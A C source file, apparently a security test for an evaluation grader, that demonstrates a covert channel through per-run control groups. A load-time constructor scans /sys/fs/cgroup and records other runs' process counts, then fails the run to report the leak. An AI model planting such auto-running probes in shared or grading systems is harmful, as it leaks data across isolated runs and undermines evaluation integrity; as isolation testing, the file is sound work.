/* Attack (issue 35, item 2): the grader's control groups as a covert
 * channel. Each run has a group of its own (step-N) whose pids.current and
 * memory usage anyone who can read /sys/fs/cgroup sees: a hidden run's
 * rank count, or a size it encodes in what it allocates, reach a public run
 * made beside it. Rank 0 of a 2-rank run looks for 6 s and fails quoting
 * every other run's group it saw. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char seen[2048];
static int nsteps;

static long read_long(const char *dir, const char *file)
{
    char path[1024];
    snprintf(path, sizeof path, "%s/%s", dir, file);
    FILE *f = fopen(path, "r");
    long v = -1;
    if (f) {
        if (fscanf(f, "%ld", &v) != 1) v = -1;
        fclose(f);
    }
    return v;
}

static void walk(const char *dir, int depth)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_type != DT_DIR || e->d_name[0] == '.') continue;
        char path[1024];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (strncmp(e->d_name, "step-", 5) == 0) {
            long pids = read_long(path, "pids.current");
            if (pids > 0) {
                char note[96];
                snprintf(note, sizeof note, "%s:%ld ", e->d_name, pids);
                if (!strstr(seen, e->d_name) && strlen(seen) + strlen(note) < sizeof seen) {
                    strcat(seen, note);
                    nsteps++;
                }
            }
        } else if (depth < 6) {
            walk(path, depth + 1);
        }
    }
    if (d) closedir(d);
}

__attribute__((constructor)) static void watch_groups(void)
{
    const char *size = getenv("OMPI_COMM_WORLD_SIZE"), *rank = getenv("OMPI_COMM_WORLD_RANK");
    if (!size || !rank || strcmp(size, "2") != 0 || strcmp(rank, "0") != 0) return;
    time_t end = time(NULL) + 6;
    while (time(NULL) < end) {
        walk("/sys/fs/cgroup", 0);
        usleep(100000);
    }
    /* Its own group is one of them. */
    if (nsteps > 1) {
        fprintf(stderr, "[rank 0] error: COVERT %s\n", seen);
        exit(1);
    }
}
